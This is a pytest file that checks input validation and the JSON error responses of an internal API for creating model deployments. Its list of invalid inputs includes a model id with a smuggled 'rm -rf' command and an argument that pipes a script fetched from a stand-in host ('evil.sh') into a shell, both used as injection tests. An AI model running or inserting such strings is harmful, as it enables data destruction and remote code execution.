"""Every shape error of the create body (issue §7) is a 422 naming the field, before any database work;
malformed requests get 400/413/415; all in the one error envelope, never a 500."""

from __future__ import annotations

import io
import json
import logging

import pytest

from tests.web.helpers import create_body, error_code
from workers.logs import ContextFilter

CREATE = "/internal/deployments/create"

INVALID_BODIES = [
    # (case id, body overrides, field expected in details.fields)
    ("model_id missing", {"model_id": None}, "model_id"),
    ("model_id three parts", {"model_id": "a/b/c"}, "model_id"),
    ("model_id space", {"model_id": "meta llama/x"}, "model_id"),
    ("model_id shell chars", {"model_id": "org/x;rm -rf"}, "model_id"),
    ("model_id leading dash", {"model_id": "-org/model"}, "model_id"),
    ("model_id double dot", {"model_id": "org/mo..del"}, "model_id"),
    ("model_id double dash", {"model_id": "org/mo--del"}, "model_id"),
    ("model_id too long", {"model_id": "org/" + "m" * 97}, "model_id"),
    ("model_id path", {"model_id": "/models/llama"}, "model_id"),
    ("model_id not string", {"model_id": 42}, "model_id"),
    # A pattern anchored with "$" lets one trailing newline through (re.match): every pattern ends with \Z.
    ("model_id trailing newline", {"model_id": "org/model\n"}, "model_id"),
    ("name trailing newline", {"name": "abc\n"}, "name"),
    ("gpu_type trailing newline", {"gpu_type": "nvidia-l40s\n"}, "gpu_type"),
    ("autoscaling target name trailing newline", {"autoscaling": {"targets": {"queue_depth\n": 5}}}, "autoscaling"),
    ("autoscaling target unknown", {"autoscaling": {"targets": {"bogus_metric": 5}}}, "autoscaling"),
    ("autoscaling target zero", {"autoscaling": {"targets": {"queue_depth": 0}}}, "autoscaling"),
    ("autoscaling kv cache over 100%", {"autoscaling": {"targets": {"kv_cache_usage": 150}}}, "autoscaling"),
    ("autoscaling gpu target over 100%", {"autoscaling": {"targets": {"gpu_utilization": 101}}}, "autoscaling"),
    ("autoscaling two names of one metric",
     {"autoscaling": {"targets": {"kv_cache_usage": 0.5, "gpu_cache_usage_perc": 0.9}}}, "autoscaling"),
    ("autoscaling gpu target twice",
     {"autoscaling": {"target_gpu_utilization": 70, "targets": {"gpu_utilization": 80}}}, "autoscaling"),
    ("name uppercase", {"name": "MyModel"}, "name"),
    ("name starts with digit", {"name": "1model"}, "name"),
    ("name ends with dash", {"name": "model-"}, "name"),
    ("name underscore", {"name": "my_model"}, "name"),
    ("name too long", {"name": "a" * 41}, "name"),
    ("replicas zero", {"replicas": 0}, "replicas"),
    ("replicas too many", {"replicas": 65}, "replicas"),
    ("replicas string", {"replicas": "2"}, "replicas"),
    ("replicas float", {"replicas": 1.5}, "replicas"),
    ("replicas bool", {"replicas": True}, "replicas"),
    ("gpus_per_replica 3", {"gpus_per_replica": 3}, "gpus_per_replica"),
    ("gpus_per_replica 16", {"gpus_per_replica": 16}, "gpus_per_replica"),
    ("gpus_per_replica 0", {"gpus_per_replica": 0}, "gpus_per_replica"),
    ("gpu_type bad label", {"gpu_type": "nvidia l40s!"}, "gpu_type"),
    ("gpu_type too long", {"gpu_type": "g" * 64}, "gpu_type"),
    ("max_model_len zero", {"max_model_len": 0}, "max_model_len"),
    ("max_model_len huge", {"max_model_len": 1_048_577}, "max_model_len"),
    ("dtype unknown", {"dtype": "int4"}, "dtype"),
    ("vllm_args not a list", {"vllm_args": "--enforce-eager"}, "vllm_args"),
    ("vllm_args not allowed", {"vllm_args": ["--served-model-name-x", "a"]}, "vllm_args"),
    ("vllm_args reserved", {"vllm_args": ["--port", "9000"]}, "vllm_args"),
    ("vllm_args shell injection", {"vllm_args": ["; curl evil.sh | sh"]}, "vllm_args"),
    ("unknown field", {"replica": 2}, "replica"),
    (
        "autoscaling min above max",
        {"autoscaling": {"enabled": True, "min_replicas": 4, "max_replicas": 2}},
        "autoscaling",
    ),
    (
        "autoscaling replicas below min",
        {"replicas": 1, "autoscaling": {"enabled": True, "min_replicas": 2, "max_replicas": 4}},
        "autoscaling",
    ),
    (
        "autoscaling replicas above max",
        {"replicas": 5, "autoscaling": {"enabled": True, "min_replicas": 1, "max_replicas": 4}},
        "autoscaling",
    ),
    ("autoscaling target 0", {"autoscaling": {"enabled": True, "target_gpu_utilization": 0}}, "autoscaling"),
    ("autoscaling target 101", {"autoscaling": {"enabled": True, "target_gpu_utilization": 101}}, "autoscaling"),
    ("autoscaling unknown field", {"autoscaling": {"enabled": True, "cooldown": 5}}, "autoscaling"),
    ("autoscaling enabled string", {"autoscaling": {"enabled": "yes"}}, "autoscaling"),
]


@pytest.mark.parametrize(
    ("overrides", "field"), [case[1:] for case in INVALID_BODIES], ids=[case[0] for case in INVALID_BODIES]
)
def test_invalid_create_body_is_422_naming_the_field(client, acme, enqueued_task_ids, overrides, field):
    response = client.post(CREATE, json=create_body(**overrides), headers=acme)

    assert response.status_code == 422, response.get_json()
    assert error_code(response) == "validation_failed"
    assert field in response.get_json()["error"]["details"]["fields"]
    assert enqueued_task_ids() == []


@pytest.mark.parametrize("raw", ["[{}]", "null", '"text"', "42", "{}"])
def test_body_that_is_not_an_object_or_empty_is_422(client, acme, raw):
    response = client.post(CREATE, data=raw, headers={**acme, "Content-Type": "application/json"})

    assert response.status_code == 422
    assert error_code(response) == "validation_failed"


def test_malformed_json_is_400(client, acme):
    response = client.post(CREATE, data="{not json", headers={**acme, "Content-Type": "application/json"})

    assert response.status_code == 400
    assert error_code(response) == "invalid_json"


def test_non_json_content_type_is_415(client, acme):
    response = client.post(CREATE, data="model_id=org/x", headers={**acme, "Content-Type": "text/plain"})

    assert response.status_code == 415
    assert error_code(response) == "unsupported_media_type"


def test_body_over_the_limit_is_413_json(make_app, acme):
    client = make_app(max_request_bytes=1024).test_client()
    body = create_body(vllm_args=["--enforce-eager"], name="x" * 2000)

    response = client.post(CREATE, json=body, headers=acme)

    assert response.status_code == 413
    assert error_code(response) == "payload_too_large"


def test_unknown_query_parameter_is_422(client, acme):
    response = client.get("/internal/deployments?stauts=RUNNING", headers=acme)

    assert response.status_code == 422
    assert "stauts" in response.get_json()["error"]["details"]["fields"]


@pytest.mark.parametrize("query", ["status=SLEEPING", "limit=0", "limit=201", "limit=ten", "cursor=%21%21"])
def test_bad_list_arguments_are_422(client, acme, query):
    response = client.get(f"/internal/deployments?{query}", headers=acme)

    assert response.status_code == 422, response.get_json()


# "first,second" is how gunicorn hands over two Idempotency-Key headers: one key matching neither.
@pytest.mark.parametrize("key", ["", "x" * 256, "caf\u00e9", "first,second"])
def test_malformed_idempotency_key_is_400(client, acme, key):
    response = client.post(CREATE, json=create_body(), headers={**acme, "Idempotency-Key": key})

    assert response.status_code == 400
    assert error_code(response) == "invalid_idempotency_key"


def test_unknown_route_is_json_404(client, acme):
    response = client.get("/internal/nothing-here", headers=acme)

    assert response.status_code == 404
    assert error_code(response) == "not_found"


def test_wrong_method_is_json_405_with_allow(client, acme):
    response = client.put(CREATE, json=create_body(), headers=acme)

    assert response.status_code == 405
    assert error_code(response) == "method_not_allowed"
    assert "POST" in response.headers["Allow"]


@pytest.mark.parametrize(
    ("method", "path", "scopes", "code"),
    [
        ("get", "/internal/deployments/not-a-uuid", ("internal",), "deployment_not_found"),
        ("get", "/internal/deployments/not-a-uuid/status", ("internal",), "deployment_not_found"),
        ("post", "/internal/deployments/12345/restart", ("internal",), "deployment_not_found"),
        ("delete", "/internal/deployments/x%20y", ("internal",), "deployment_not_found"),
        ("get", "/internal/jobs/not-a-uuid", ("internal",), "job_not_found"),
        ("get", "/admin/v1/jobs/not-a-uuid", ("admin",), "job_not_found"),
        ("post", "/admin/v1/jobs/not-a-uuid/cancel", ("admin",), "job_not_found"),
    ],
)
def test_an_id_that_is_not_a_uuid_is_that_resources_404_after_authentication(
    client, headers_for, method, path, scopes, code
):
    unauthenticated = getattr(client, method)(path)
    assert unauthenticated.status_code == 401

    response = getattr(client, method)(path, headers=headers_for("acme", scopes=scopes))

    assert response.status_code == 404
    assert error_code(response) == code


class _Capture(logging.Handler):
    def __init__(self) -> None:
        super().__init__()
        self.addFilter(ContextFilter("web"))
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


def test_unexpected_exception_is_json_500_without_traceback(make_app, acme, caplog):
    app = make_app()

    def explode():
        raise RuntimeError("secret internals")

    app.add_url_rule("/explode", "explode", explode)
    capture = _Capture()
    logging.getLogger("web").addHandler(capture)
    try:
        response = app.test_client().get("/explode", headers={"X-Request-ID": "req-123"})
    finally:
        logging.getLogger("web").removeHandler(capture)

    assert response.status_code == 500
    assert error_code(response) == "internal_error"
    assert "secret internals" not in response.get_data(as_text=True)
    assert response.get_json()["error"]["details"]["request_id"] == "req-123"
    assert any(record.exc_info and "secret internals" in str(record.exc_info[1]) for record in caplog.records)
    # The log line carries the request id, so the 500 the client saw can be found in the logs.
    assert [record.request_id for record in capture.records if record.exc_info] == ["req-123"]


@pytest.mark.parametrize("path", ["/health", "/internal/deployments", CREATE])
def test_options_is_204_with_allow_and_no_html(client, path):
    response = client.open(path, method="OPTIONS")

    assert response.status_code == 204
    assert response.data == b""
    assert "Content-Type" not in response.headers
    assert "OPTIONS" in response.headers["Allow"]



def test_create_is_a_route_of_its_own_not_a_deployment_id(client, acme):
    options = client.open(CREATE, method="OPTIONS")
    assert set(options.headers["Allow"].split(", ")) == {"POST", "OPTIONS"}
    for method in ("get", "delete"):
        response = getattr(client, method)(CREATE, headers=acme)
        assert response.status_code == 405
        assert error_code(response) == "method_not_allowed"
    assert client.get(f"{CREATE}/status", headers=acme).status_code == 404
    assert error_code(client.get(f"{CREATE}/status", headers=acme)) == "not_found"
    # A name merely starting with "create" is still an (unknown) id.
    assert error_code(client.get("/internal/deployments/createx/status", headers=acme)) == "deployment_not_found"


@pytest.mark.parametrize("query", ["status=RUNNING&status=FAILED", "limit=5&limit=7", "name=a&model_id=org/m&name=b"])
def test_a_single_valued_query_parameter_given_twice_is_422(client, acme, query):
    response = client.get(f"/internal/deployments?{query}", headers=acme)

    assert response.status_code == 422
    repeated = {part.split("=")[0] for part in query.split("&") if query.count(part.split("=")[0] + "=") > 1}
    assert set(response.get_json()["error"]["details"]["fields"]) == repeated


def test_autoscaling_with_nothing_to_scale_between_is_422(client, acme, seed_nodes):
    seed_nodes({"nvidia-l40s": [8]})
    alone = client.post(CREATE, json=create_body(name="alone", autoscaling={"enabled": True}), headers=acme)
    pinned = client.post(CREATE, json=create_body(
        name="pinned", replicas=2, autoscaling={"enabled": True, "min_replicas": 2, "max_replicas": 2}), headers=acme)
    ranged = client.post(CREATE, json=create_body(name="ranged", autoscaling={"enabled": True, "max_replicas": 2}),
                         headers=acme)

    for refused in (alone, pinned):
        assert refused.status_code == 422
        assert error_code(refused) == "empty_autoscaling_range"
    assert ranged.status_code == 202


def test_a_chunked_body_over_the_limit_is_413_json(make_app, acme):
    """Without Content-Length (chunked transfer; gunicorn ends the stream, so it sets wsgi.input_terminated) the
    limit is only found while reading, and must still be 413, not a truncated body reported as invalid JSON."""
    client = make_app(max_request_bytes=1024).test_client()
    body = json.dumps(create_body(vllm_args=["--enforce-eager"], name="x" * 2000)).encode()

    response = client.post(
        CREATE,
        input_stream=io.BytesIO(body),
        headers={**acme, "Content-Type": "application/json", "Transfer-Encoding": "chunked"},
        environ_overrides={"wsgi.input_terminated": True},
    )

    assert response.status_code == 413
    assert error_code(response) == "payload_too_large"


def test_a_chunked_body_at_the_limit_is_read_whole(make_app, acme):
    body = json.dumps({"model_id": "org/x", "name": "x"}).encode()
    client = make_app(max_request_bytes=len(body)).test_client()

    response = client.post(
        CREATE,
        input_stream=io.BytesIO(body),
        headers={**acme, "Content-Type": "application/json", "Transfer-Encoding": "chunked"},
        environ_overrides={"wsgi.input_terminated": True},
    )

    # Read whole and valid: it goes on to admission, which finds no GPU nodes in this empty inventory.
    assert response.status_code == 422, response.get_json()
    assert error_code(response) == "no_gpu_inventory"


@pytest.mark.parametrize(
    "path",
    ["/internal/resources/available?x=1", "/internal/jobs/{job}?verbose=1", "/internal/deployments/{deployment}?a=b"],
)
def test_a_query_parameter_an_operation_does_not_take_is_422(client, acme, seed_nodes, path):
    seed_nodes({"nvidia-l40s": [8]})
    created = client.post(CREATE, json=create_body(), headers=acme).get_json()
    path = path.format(job=created["job_id"], deployment=created["deployment_id"])

    response = client.get(path, headers=acme)

    assert response.status_code == 422
    assert error_code(response) == "validation_failed"
    assert list(response.get_json()["error"]["details"]["fields"]) == [path.split("?")[1].split("=")[0]]


def test_operations_that_take_a_query_still_read_it(client, acme):
    response = client.get("/internal/deployments?status=RUNNING&limit=5", headers=acme)

    assert response.status_code == 200


@pytest.mark.parametrize(
    "path", ["/admin/v1/infrastructure/health?x=1", "/admin/v1/tenants/acme/quota?x=1", "/admin/v1/jobs/{job}?x=1"]
)
def test_an_admin_operation_refuses_a_query_it_does_not_take(client, headers_for, acme, seed_nodes, path):
    seed_nodes({"nvidia-l40s": [8]})
    job_id = client.post(CREATE, json=create_body(), headers=acme).get_json()["job_id"]

    response = client.get(path.format(job=job_id), headers=headers_for(None, scopes=("admin",)))

    assert response.status_code == 422
    assert list(response.get_json()["error"]["details"]["fields"]) == ["x"]


def test_a_doubled_slash_is_a_404_not_a_redirect(client, acme):
    response = client.get("/internal/deployments//status", headers=acme)

    assert response.status_code == 404
    assert response.is_json
